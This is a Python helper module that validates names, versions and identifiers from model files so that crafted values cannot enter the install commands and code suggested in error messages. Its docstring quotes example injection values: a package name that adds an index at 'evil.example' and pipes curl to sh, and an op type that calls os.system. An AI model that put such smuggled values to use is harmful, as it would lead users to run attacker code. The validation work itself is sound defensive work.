"""Text from model files in advice: shown only when it cannot be anything but a name.

Error messages suggest commands (``pip install <distribution>``) and code
(``OpExtension("<opforge op>", "<op type>")``). Names in them can come from the model file, and
a crafted file would otherwise choose what the user is told to run or paste:
``pkg --index-url http://evil.example/simple; curl ... | sh #`` as a "distribution", or
``X"), __import__("os").system("...`` as an "op type". These helpers return the text when it is
a plain name, else None, and callers then leave it out of the suggestion.
"""

from __future__ import annotations

import re
from typing import Any

#: a project (distribution) name as PEP 508 defines it; letters, digits and ._- inside
PACKAGE_NAME = re.compile(r"[A-Z0-9]|[A-Z0-9][A-Z0-9._-]*[A-Z0-9]", re.IGNORECASE)
#: a version shown beside it: PEP 440's characters only
VERSION = re.compile(r"[A-Za-z0-9][A-Za-z0-9.+!_-]*")
#: an op type or domain pasted into a Python string literal in advice
IDENTIFIER = re.compile(r"[A-Za-z_][A-Za-z0-9_.:-]*")


def plain(value: Any, pattern: re.Pattern[str], max_len: int = 100) -> str | None:
    """``value`` if it is a string of at most ``max_len`` characters fully matching ``pattern``."""
    if isinstance(value, str) and len(value) <= max_len and pattern.fullmatch(value):
        return value
    return None


def package_name(value: Any) -> str | None:
    return plain(value, PACKAGE_NAME)


def version(value: Any) -> str | None:
    return plain(value, VERSION, 64)


def identifier(value: Any, placeholder: str) -> str:
    """``value`` for a code suggestion, or ``placeholder`` when it is not a plain identifier."""
    return plain(value, IDENTIFIER) or placeholder
